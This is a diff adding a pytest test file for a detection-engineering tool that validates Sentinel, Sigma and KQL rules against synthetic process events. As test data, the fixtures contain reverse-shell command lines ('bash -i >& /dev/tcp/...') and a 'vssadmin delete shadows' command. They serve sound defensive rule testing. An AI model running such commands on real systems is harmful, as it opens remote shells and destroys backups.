@@ -1,0 +1,327 @@
+"""The content gate (pytester): Sentinel analytics rules as reviewer's checks, with test data."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+WHEN = "2026-03-05T10:00:00Z"
+
+#: The tiny store: one attack and one look-alike (a hard negative) in DeviceProcessEvents.
+EVENTS = {
+    "attack/sim_shell/DeviceProcessEvents.jsonl": [
+        {"ReportId": 482913377104, "Timestamp": WHEN, "DeviceName": "app-01",
+         "AccountName": "svc-app", "FolderPath": "/usr/bin/bash",
+         "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}],
+    "benign/sim_shell/DeviceProcessEvents.jsonl": [
+        {"ReportId": 300918273645, "Timestamp": WHEN, "DeviceName": "app-01",
+         "AccountName": "deploy", "FolderPath": "/usr/bin/bash",
+         "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432'"}],
+}
+
+
+def write_telemetry(root: Path) -> Path:
+    """The real schemas and dataset.yaml with the tiny store's events (built with rows=0)."""
+    shutil.copytree(ROOT / "telemetry" / "schemas", root / "schemas")
+    shutil.copy(ROOT / "telemetry" / "dataset.yaml", root / "dataset.yaml")
+    for relative, rows in EVENTS.items():
+        path = root / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return root
+
+
+RULE = """\
+id: 3f6f1c7e-5b0a-4d4e-9a57-0c1d2e3f4a5b
+name: Interactive reverse shell
+description: An interactive shell redirected to a TCP connection.
+severity: High
+requiredDataConnectors:
+  - connectorId: {connector}
+    dataTypes:
+      - DeviceProcessEvents
+queryFrequency: 1h
+queryPeriod: 1h
+triggerOperator: gt
+triggerThreshold: {threshold}
+tactics:
+  - {tactic}
+relevantTechniques:
+  - T1059.004
+query: |
+  DeviceProcessEvents
+  | where ProcessCommandLine has "/dev/tcp/"{condition}
+  | project Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId
+entityMappings:
+  - entityType: Host
+    fieldMappings:
+      - identifier: HostName
+        columnName: {host_column}
+kind: Scheduled
+"""
+STRICT = '\n  | where ProcessCommandLine matches regex @"bash\\s+-[a-z]*i"'
+MATCH_CSV = """\
+Timestamp [UTC],DeviceName,AccountName,ProcessCommandLine,AdditionalFields
+2025-11-04T14:02:11.000Z,app-07,svc-tomcat,"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1","{""a"": 1}"
+"11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",
+"""
+NOMATCH = {"Timestamp": "2025-11-04T13:55:00Z", "DeviceName": "app-07", "AccountName": "deploy",
+           "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'"}
+
+
+def rule(**changes: object) -> str:
+    values = {"connector": "MicrosoftThreatProtection", "threshold": 0, "tactic": "Execution",
+              "condition": STRICT, "host_column": "DeviceName"}
+    values.update(changes)
+    return RULE.format(**values)
+
+
+@pytest.fixture(scope="module")
+def store_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("store-cache")
+
+
+@pytest.fixture
+def project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:
+    write_telemetry(pytester.path / "telemetry")
+    (pytester.path / "detections").mkdir()
+    pytester.makeini(f"""
+        [pytest]
+        testpaths = detections
+        addopts = --realm-cache-dir={store_cache} --realm-rows=0 -p no:cacheprovider
+    """)
+    return pytester
+
+
+def add_rule(project: pytest.Pytester, name: str, text: str, *, match: str | None = MATCH_CSV,
+             nomatch: dict | None = NOMATCH, settings: str | None = None) -> Path:
+    path = project.path / "detections" / f"{name}.yaml"
+    path.write_text(text)
+    tests = path.with_name(f"{name}.tests")
+    if match is not None:
+        (tests / "match").mkdir(parents=True)
+        (tests / "match" / "DeviceProcessEvents.csv").write_text(match)
+    if nomatch is not None:
+        (tests / "nomatch").mkdir(parents=True, exist_ok=True)
+        (tests / "nomatch" / "DeviceProcessEvents.jsonl").write_text(json.dumps(nomatch) + "\n")
+    if settings is not None:
+        tests.mkdir(exist_ok=True)
+        (tests / "tests.yaml").write_text(settings)
+    return path
+
+
+CHECKS = ("parse", "runs", "connectors", "entities", "attack", "true_positives", "false_positives")
+
+
+def test_a_good_rule_passes_every_check(project: pytest.Pytester) -> None:
+    add_rule(project, "shell", rule())
+    result = project.runpytest("-v")
+    result.assert_outcomes(passed=7)
+    for check in CHECKS:
+        result.stdout.fnmatch_lines([f"*shell.yaml::{check} PASSED*"])
+
+
+def test_a_rule_without_test_data_is_marked_untested(project: pytest.Pytester) -> None:
+    add_rule(project, "shell", rule(), match=None, nomatch=None)
+    result = project.runpytest("-rs")
+    result.assert_outcomes(passed=6, skipped=1)
+    result.stdout.fnmatch_lines(["*untested: no must-match events in detections/shell.tests/match/*"])
+
+
+@pytest.mark.parametrize(("changes", "check", "message"), [
+    ({"host_column": "Computer"}, "entities",
+     "*mapped columns missing from the query's output: Host.HostName -> Computer (output columns: "
+     "Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId)*"),
+    ({"tactic": "Exfiltration"}, "attack",
+     "*T1059.004 (Unix Shell) is under Execution, none of the listed tactics*"),
+    ({"tactic": "Sneaking"}, "attack", "*unknown tactic 'Sneaking'*"),
+    ({"connector": "AzureActiveDirectory"}, "connectors",
+     "*connector AzureActiveDirectory does not deliver DeviceProcessEvents; the query reads "
+     "DeviceProcessEvents, which no declared connector delivers*"),
+    ({"threshold": 5}, "true_positives",
+     "*would not fire: the must-match events give 2 result rows, and the rule fires when that is "
+     "> 5 (triggerOperator gt)*"),
+    ({"condition": '\n  | where AccountName == "nobody"'}, "true_positives",
+     "*raised no alert on its 2 must-match events (DeviceProcessEvents)*"),
+    ({"condition": ""}, "false_positives",
+     "*raised 1 false positives over the store's benign activity (max_false_positives: 0): "
+     "1 hard negatives, 0 background, e.g. *"),
+])
+def test_each_check_names_what_is_wrong(project: pytest.Pytester, changes: dict, check: str,
+                                        message: str) -> None:
+    add_rule(project, "shell", rule(**changes))
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines([f"*shell.yaml::{check} FAILED*"])
+    result.stdout.fnmatch_lines([f"'Interactive reverse shell' (detections/shell.yaml): {message}"])
+
+
+def test_must_not_match_events_and_the_budget(project: pytest.Pytester) -> None:
+    add_rule(project, "shell", rule(condition=""), settings="max_false_positives: 1\n")
+    result = project.runpytest()
+    result.assert_outcomes(passed=6, failed=1)
+    result.stdout.fnmatch_lines([
+        "*alerted on its must-not-match events: 1 alerts from 1 events, e.g. *deploy*"])
+
+
+def test_broken_yaml_fails_parse_and_skips_the_rest(project: pytest.Pytester) -> None:
+    add_rule(project, "broken", rule().replace("  - entityType: Host", "   - entityType: Host"))
+    add_rule(project, "shell", rule())
+    result = project.runpytest("-rs")
+    result.assert_outcomes(passed=7, failed=1, skipped=6)
+    result.stdout.fnmatch_lines(["*'broken' (detections/broken.yaml): does not parse: invalid YAML "
+                                 "at line *"])
+
+
+def test_schema_fields_are_checked(project: pytest.Pytester) -> None:
+    text = rule().replace("triggerOperator: gt", "triggerOperator: above").replace(
+        "queryPeriod: 1h", "queryPeriod: 30d")
+    add_rule(project, "shell", text)
+    result = project.runpytest()
+    result.stdout.fnmatch_lines([
+        "*: queryPeriod is over 14d; triggerOperator 'above': expected gt, lt, eq or ne*"])
+
+
+def test_unknown_test_data_column_names_file_and_line(project: pytest.Pytester) -> None:
+    add_rule(project, "shell", rule(), match="Timestamp,Nope\n2025-11-04T14:02:11Z,x\n")
+    result = project.runpytest()
+    result.stdout.fnmatch_lines(["*test data: */shell.tests/match/DeviceProcessEvents.csv:2: "
+                                 "column 'Nope' is not in DeviceProcessEvents*"])
+
+
+def test_table_read_without_a_schema_is_named(project: pytest.Pytester) -> None:
+    text = rule(condition="\n  | join kind=leftouter (IdentityInfo) on $left.AccountName == "
+                          "$right.AccountName")
+    add_rule(project, "shell", text)
+    result = project.runpytest("-rs")
+    result.stdout.fnmatch_lines(["*shell.yaml): reads IdentityInfo, which the telemetry has no "
+                                 "schema for*",
+                                 "*cannot run offline: no schema for IdentityInfo*"])
+
+
+def test_a_watchlist_is_named_not_called_a_syntax_error(project: pytest.Pytester) -> None:
+    add_rule(project, "shell", rule(
+        condition='\n  | where AccountName in (_GetWatchlist("admins") | project SearchKey)'))
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines(["*shell.yaml::parse PASSED*"])
+    result.stdout.fnmatch_lines(["*shell.yaml): calls _GetWatchlist, a Sentinel workspace function "
+                                 "(a watchlist or an ASIM parser) that cannot run offline*"])
+
+
+def test_sigma_and_kql_in_the_content_folder_use_the_rules_gate(project: pytest.Pytester) -> None:
+    (project.path / "detections" / "shell.yml").write_text(textwrap.dedent("""\
+        title: Reverse shell
+        status: test
+        logsource:
+            product: linux
+            category: process_creation
+        detection:
+            selection:
+                CommandLine|contains: '/dev/tcp/'
+            condition: selection
+    """))
+    (project.path / "detections" / "q.kql").write_text(
+        'DeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n')
+    (project.path / "detections" / "q.yml").write_text("title: Q\n")
+    (project.path / "detections" / "hunt.kql").write_text(
+        "DeviceProcessEvents | summarize count() by AccountName\n")
+    (project.path / "detections" / "typo.kql").write_text("DeviceProcessEvents | where Nope == 1\n")
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines(["*hunt.kql::parse PASSED*", "*hunt.kql::runs PASSED*"])
+    result.stdout.fnmatch_lines(["*q.kql::parse PASSED*"])
+    result.stdout.fnmatch_lines(["*shell.yml::validate PASSED*"])
+    result.stdout.fnmatch_lines(["'typo' (detections/typo.kql): does not run over the store: "
+                                 "semantic error at 1:29: unknown column 'Nope'"])
+    result.assert_outcomes(passed=11, failed=1)
+
+
+def test_a_sentinel_rule_under_rules_is_not_read_as_sigma(project: pytest.Pytester) -> None:
+    (project.path / "rules").mkdir()
+    (project.path / "rules" / "shell.yaml").write_text(rule())
+    result = project.runpytest("rules", "-v")
+    result.stdout.fnmatch_lines(["*rules/shell.yaml::connectors PASSED*"])
+    result.assert_outcomes(passed=6, skipped=1)
+
+
+# -- published rules, from `ctirealm init` to a red/green run ------------------------------------
+
+SAMPLE = ROOT / "tests" / "fixtures" / "sentinel"
+#: As exported from the Defender portal's advanced hunting: a header row, ISO times.
+SHADOW_CSV = """\
+Timestamp,DeviceName,AccountName,AccountDomain,AccountUpn,ProcessId,FileName,FolderPath,ProcessCommandLine
+2025-10-21T03:14:07.1234567Z,fin-ws-12.corp.example,jdoe,corp,jdoe@corp.example,4412,vssadmin.exe,C:\\Windows\\System32\\vssadmin.exe,vssadmin.exe delete shadows /all /quiet
+"""
+P, F, S = "PASSED", "FAILED", "SKIPPED"
+#: Per published rule, per check: what the gate says over the tiny store.
+EXPECTED = {
+    "LaZagneCredTheft": dict(parse=P, runs=F, connectors=P, entities=S, attack=P,
+                             true_positives=S, false_positives=S),
+    "MFARejectedbyUser": dict(parse=P, runs=F, connectors=F, entities=S, attack=P,
+                              true_positives=S, false_positives=S),
+    "NRT_NewAppOrServicePrincipalCredential": dict(parse=F, runs=S, connectors=S, entities=S,
+                                                   attack=S, true_positives=S, false_positives=S),
+    "New-CloudShell-User": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
+                                true_positives=S, false_positives=P),
+    "exchange_auditlogdisabled": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
+                                      true_positives=S, false_positives=P),
+    "UserAssignedPrivilegedRole": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
+                                       true_positives=S, false_positives=P),
+    "ShadowCopyDeletion": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
+                               true_positives=P, false_positives=P),
+    "reverse_shell_from_service_account": {check: P for check in CHECKS},
+}
+
+
+def test_published_rules_from_init_to_a_verdict(pytester: pytest.Pytester, store_cache: Path) -> None:
+    from ctirealm.cli import main
+
+    write_telemetry(pytester.path / "telemetry")
+    assert main(["init", str(pytester.path)]) == 0
+    ini = pytester.path / "pytest.ini"
+    ini.write_text(ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 "
+                                      "-p no:cacheprovider\n")
+    assert (pytester.path / ".github" / "workflows" / "detections.yml").is_file()
+    for path in SAMPLE.glob("*.yaml"):
+        shutil.copy(path, pytester.path / "detections" / path.name)
+    match = pytester.path / "detections" / "ShadowCopyDeletion.tests" / "match"
+    match.mkdir(parents=True)
+    (match / "DeviceProcessEvents.csv").write_text(SHADOW_CSV)
+
+    result = pytester.runpytest("-v", "-rs")
+    seen: dict[str, dict[str, str]] = {}
+    for line in result.stdout.lines:
+        if "::" in line and line.startswith("detections/"):
+            node, outcome = line.split()[:2]
+            name, check = node.removeprefix("detections/").split(".yaml::")
+            seen.setdefault(name, {})[check] = outcome
+    assert seen == EXPECTED
+    result.stdout.fnmatch_lines([
+        "*LaZagneCredTheft.yaml): does not run over the store: semantic error at 5:25: unknown "
+        "column 'DeviceName'*"])
+
+
+def test_init_never_overwrites(tmp_path: Path) -> None:
+    from ctirealm.cli.init import init
+
+    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '-q'\n")
+    first = dict(init(tmp_path))
+    assert first["pyproject.toml"].startswith("exists, left alone: add 'realm_content = detections'")
+    assert not (tmp_path / "pytest.ini").exists()
+    (tmp_path / "detections" / "reverse_shell_from_service_account.yaml").write_text("mine\n")
+    second = dict(init(tmp_path))
+    assert set(second.values()) == {first["pyproject.toml"], "exists, left alone"}
+    assert (tmp_path / "detections" / "reverse_shell_from_service_account.yaml").read_text() == "mine\n"
+
+
+def test_the_content_hooks_load_no_engine_and_no_sigma() -> None:
+    # Installed plugins load in every pytest run; only collecting a rule may load the engine.
+    code = ("import json, sys\nimport ctirealm.plugin.content\n"
+            "print(json.dumps(sorted(m for m in ('duckdb', 'duckdb_kql', 'sigma') if m in sys.modules)))")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert json.loads(done.stdout) == []
